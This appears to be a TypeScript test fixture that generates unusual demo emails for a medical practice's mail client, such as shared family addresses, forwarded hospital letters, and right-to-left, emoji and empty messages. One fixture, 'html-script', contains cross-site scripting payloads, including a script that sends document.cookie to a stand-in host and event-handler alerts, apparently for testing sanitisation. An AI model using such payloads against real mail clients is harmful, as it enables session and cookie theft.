import { day, hour, type Letter, unread } from '../letter.ts';
import { getDemoPatient, senderOf } from '../people/patients.ts';
import { office } from '../practice.ts';

const from = (name: string) => senderOf(getDemoPatient(name));

/** Mail that is nobody's fault and everybody's trouble. */
export function oddLetters(): Letter[] {
  return [...families(), ...forwards(), ...shapes()];
}

/** Three patients write from one address, and one person for another. */
function families(): Letter[] {
  const delgado = from('Rosa Delgado').address;
  return [
    {
      id: 'family-ear',
      kind: 'shared-address',
      minutesAgo: 9 * hour,
      from: { name: 'Familia Delgado', address: delgado },
      subject: 'Dolor de oído',
      flags: unread,
      text: 'Buenos días, anoche le dolió mucho el oído otra vez y tuvo 38.4. ¿Puede ir a la escuela o lo llevo con ustedes?\n\nGracias,\nRosa\n',
    },
    {
      id: 'family-shots',
      kind: 'shared-address',
      minutesAgo: 5 * day + 7 * hour,
      from: from('Rosa Delgado'),
      subject: 'Cita para Lucía y para mí',
      text: 'Hola María, ¿podemos ir las dos el mismo día? A mí me toca la presión y a Lucía la vacuna.\n\nRosa Delgado\n',
    },
    {
      id: 'carer',
      kind: 'carer',
      minutesAgo: 1 * day + 9 * hour,
      from: from('Irene Novak'),
      flags: unread,
      subject: "Dad's new walking frame",
      text: 'Good evening, I write for my father, Walter. The frame is too high and he will not use it. Who adjusts it?\n\nAlso, for myself: is my mammogram due?\n\nIrene Novak\n',
    },
  ];
}

function forwards(): Letter[] {
  const hospital =
    'From: Fairview Hospital <discharge@fairviewhospital.example>\r\nTo: Hannah Goldberg <hannah.goldberg@example.com>\r\n' +
    'Subject: Your stay\r\nDate: Mon, 02 Nov 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n' +
    'Please see your family doctor within a week and bring this letter.\r\n';
  return [
    {
      id: 'forward-inline',
      kind: 'forwarded',
      minutesAgo: 2 * day + 9 * hour,
      from: from('Hannah Goldberg'),
      subject: 'Fwd: Your stay',
      text: 'FYI, is a week still all right? I have no ride before the 30th.\n\n---------- Forwarded message ---------\nFrom: Fairview Hospital <discharge@fairviewhospital.example>\nSubject: Your stay\nTo: Hannah Goldberg <hannah.goldberg@example.com>\n\nPlease see your family doctor within a week and bring this letter.\n',
    },
    {
      id: 'forward-attached',
      kind: 'forwarded',
      minutesAgo: 2 * day + 8 * hour,
      from: from('Hannah Goldberg'),
      subject: 'Fwd: Your stay (as a file)',
      text: 'Once more as a file, in case the other one was unreadable.\n',
      after: ['forward-inline'],
      files: [{ filename: 'Your stay.eml', contentType: 'message/rfc822', content: Buffer.from(hospital) }],
    },
  ];
}

function shapes(): Letter[] {
  const long = 'I am sorry to write again, but I would like to be sure that I have understood everything. '.repeat(12);
  return [
    {
      id: 'long-subject',
      kind: 'long',
      minutesAgo: 3 * day + 8 * hour,
      from: from('Samuel Achterberg-Whitmore'),
      subject:
        'Concerning the itemised statement for invoice 2026-1181, the earlier statement for 2026-1074, and the question whether the telephone consultation of 3 October was or was not part of either',
      text: `Dear Ms. Castellanos,\n\n${long}\n\n${long}\n\nhttps://www.example.com/${'a-very-long-address-without-any-place-to-break-it-'.repeat(5)}\n\nSamuel Achterberg-Whitmore\n`,
    },
    {
      id: 'html-only',
      kind: 'html-only',
      minutesAgo: 10 * day + 3 * hour,
      from: from('Mei-Ling Chow'),
      subject: 'Acupuncture together with the tablets?',
      html: '<html><body style="font-family:Georgia,serif;font-size:16px;color:#333"><p>Dear <b>Maria</b>,</p><p>may I have acupuncture while I take the <i>blood thinner</i>?</p><ul><li>twice a week</li><li>back and knees</li></ul><table border="1" cellpadding="4"><tr><th>Day</th><th>Tablet</th></tr><tr><td>Mon</td><td>1</td></tr><tr><td>Tue</td><td>&frac12;</td></tr></table><p>Mei-Ling</p></body></html>',
    },
    {
      id: 'html-script',
      kind: 'active-html',
      minutesAgo: 22 * day,
      from: { name: 'Wellness Widget', address: 'hello@widget.example' },
      subject: 'Try our booking widget',
      text: 'Please allow scripts.\n',
      html: '<div onclick="alert(1)">Book now</div><script>document.location="https://collect.example/?"+document.cookie</script><img src="x" onerror="fetch(\'https://collect.example/e\')"><iframe src="https://widget.example/frame"></iframe><a href="javascript:alert(2)">Book</a><svg onload="alert(3)"></svg>',
    },
    {
      id: 'right-to-left',
      kind: 'right-to-left',
      minutesAgo: 11 * day,
      from: from('Omar Haddad'),
      subject: 'موعد والدتي',
      text: 'صباح الخير، هل يمكن تغيير موعد والدتي إلى يوم الخميس؟ شكراً، عمر\n\n(My mother would like Thursday instead. Omar)\n',
    },
    {
      id: 'emoji',
      kind: 'emoji',
      minutesAgo: 15 * day,
      from: from('Linh Tran'),
      subject: 'It’s a girl 👶🎉',
      text: '3,210 g, both well. Thank you all for everything! 💛\n',
    },
    {
      id: 'empty',
      kind: 'empty',
      minutesAgo: 17 * day,
      from: from('Peter Kowalczyk'),
      subject: 'appointment?',
      text: '',
    },
    {
      id: 'deep-quote',
      kind: 'deep-quote',
      minutesAgo: 12 * day,
      from: from('Caleb Underhill'),
      subject: 'Re: Re: Re: Re: Insurance card',
      text: `Found it, sorry!\n\n${Array.from({ length: 9 }, (_, level) => `${'>'.repeat(level + 1)} Could you look once more? It should be a blue card.`).join('\n')}\n`,
    },
    {
      id: 'reply-elsewhere',
      kind: 'reply-to',
      minutesAgo: 8 * day + 2 * hour,
      from: from('Kwame Mensah'),
      replyTo: { name: 'Kwame Mensah', address: 'kwame@worksite.example' },
      subject: 'Please answer to my work address',
      text: 'My mailbox is full, so please write to my work address this week.\n\nKwame\n',
    },
    {
      id: 'copied-in',
      kind: 'several-recipients',
      minutesAgo: 13 * day + 4 * hour,
      from: from('Ingeborg Halvorsen'),
      to: [office, { name: 'Dr. Paul Renner', address: 'p.renner@fairviewcardiology.example' }],
      cc: [{ name: 'Liv Halvorsen', address: 'liv.halvorsen@example.com' }],
      subject: 'My pills, to both of you',
      text: 'To both doctors: one of you says half a pill, the other a whole one. Please agree and tell my daughter.\n\nIngeborg Halvorsen\n',
    },
    {
      id: 'no-message-id',
      kind: 'no-message-id',
      minutesAgo: 24 * day,
      from: from('Chidi Eze'),
      subject: 'scan from copier',
      raw: ({ date }) =>
        Buffer.from(
          `From: copier@worksite.example\r\nTo: ${office.address}\r\nDate: ${date}\r\nSubject: scan from copier\r\n\r\nsee attachment (there is none)\r\n`,
        ),
    },
    {
      id: 'deleted-note',
      kind: 'deleted',
      minutesAgo: 14 * day,
      from: from('Raj Subramaniam'),
      subject: 'please ignore my last mail',
      mailbox: 'Trash',
      text: 'I found the answer on your website.\n',
    },
  ];
}
